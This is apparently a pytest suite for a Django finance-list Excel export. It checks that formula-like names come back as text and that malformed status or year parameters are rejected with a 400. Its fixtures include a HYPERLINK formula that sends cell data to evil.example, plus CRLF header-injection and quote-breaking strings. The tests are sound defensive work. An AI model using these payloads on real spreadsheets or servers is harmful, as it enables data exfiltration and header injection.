"""The finance list (/incentives/export.xlsx) against the probe's findings.

- An enterprise renamed to a HYPERLINK formula, a payer or a reviewer whose name
  starts like a formula: every cell comes back from the saved file as text.
- The status filter is checked against the known statuses before it reaches the
  query or the file name: NUL, CR/LF and quote tricks are a 400, never a 500 and
  never a Content-Disposition built from what was typed.
"""
from datetime import date
from io import BytesIO

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from enterprises import services as registry
from enterprises.models import Enterprise
from incentives import services
from incentives.models import Entitlement, EntitlementStatus

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"财政清单")'


@pytest.fixture
def approved(policies_loaded, yuxian_clerk, yuxian_chief, jurisdictions, enterprises):
    """盂县耐火 entered in 2024; its entitlements are reviewed and approved by people named like formulas."""
    target = enterprises["yu_gxj"]
    registry.scale_event_record(user=yuxian_clerk, enterprise=target, kind="first_entry", on=date(2024, 12, 1))
    batch = services.entitlement_batch_request(user=yuxian_clerk, jurisdiction=jurisdictions["yuxian"], year=2024)
    services.entitlement_batch_run(batch_id=batch.pk)
    yuxian_clerk.username = "@A1+1"
    yuxian_clerk.save()
    yuxian_chief.first_name = "=陈刚"
    yuxian_chief.save()
    ids = list(Entitlement.objects.values_list("pk", flat=True))
    assert services.entitlements_review(user=yuxian_clerk, ids=ids).done == len(ids)
    assert services.entitlements_approve(user=yuxian_chief, ids=ids).done == len(ids)
    Enterprise.objects.filter(pk=target.pk).update(name=HYPERLINK)
    Entitlement.objects.update(citation="-1+2", payers=[{"payer": "+财政", "amount": "300000.00"}])
    return target


def test_the_finance_list_writes_hostile_text_as_text(client, yuxian_clerk, approved):
    client.force_login(yuxian_clerk)

    response = client.get(reverse("incentives:export"), {"status": "approved", "year": 2024})

    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    lines = list(sheet.iter_rows(min_row=2))
    assert lines
    for line in lines:
        name, citation, payer, reviewer, approver = line[2], line[5], line[6], line[10], line[11]
        assert (name.value, citation.value, payer.value, reviewer.value, approver.value) == (
            HYPERLINK, "-1+2", "+财政", "@A1+1", "=陈刚")
        assert all(c.data_type == "s" and c.quotePrefix for c in (name, citation, payer, reviewer, approver))
        assert line[7].data_type == "n" and line[0].value == 2024  # amounts and years stay numbers


@pytest.mark.parametrize("status", ["\x00", "approved\x00", "a\r\nb", "approved\r\nSet-Cookie: x=1", 'a";x="y',
                                    "approved\";x=\"y", "nonsense", "x" * 3000, "１"])
def test_an_unknown_status_is_a_400_without_a_download(client, yuxian_clerk, approved, status):
    client.force_login(yuxian_clerk)

    response = client.get(reverse("incentives:export"), {"status": status})

    assert response.status_code == 400
    assert "Content-Disposition" not in response and "Set-Cookie: x" not in str(response.cookies)
    assert "状态应为以下之一：" in response.content.decode()
    assert status not in response.content.decode()  # what was typed is not echoed back


@pytest.mark.parametrize("status", [status for status in EntitlementStatus.values])
def test_every_known_status_names_the_file_after_itself(client, yuxian_clerk, approved, status):
    client.force_login(yuxian_clerk)

    response = client.get(reverse("incentives:export"), {"status": status})

    assert response.status_code == 200
    stamp = timezone.localdate().strftime("%Y%m%d")
    assert response["Content-Disposition"] == f'attachment; filename="entitlements-{status}-{stamp}.xlsx"'


def test_no_status_means_the_approved_list(client, yuxian_clerk, approved):
    client.force_login(yuxian_clerk)

    response = client.get(reverse("incentives:export"))

    assert response.status_code == 200 and "entitlements-approved-" in response["Content-Disposition"]
    sheet = load_workbook(BytesIO(response.content)).active
    assert len(list(sheet.iter_rows(min_row=2))) == Entitlement.objects.filter(
        status=EntitlementStatus.APPROVED).count() > 0


@pytest.mark.parametrize("year", ["\x00", "a\r\nb", "²", "9" * 40, "1e400", "1999"])
def test_an_implausible_year_is_a_400(client, yuxian_clerk, approved, year):
    client.force_login(yuxian_clerk)

    response = client.get(reverse("incentives:export"), {"status": "approved", "year": year})

    assert response.status_code == 400 and "Content-Disposition" not in response
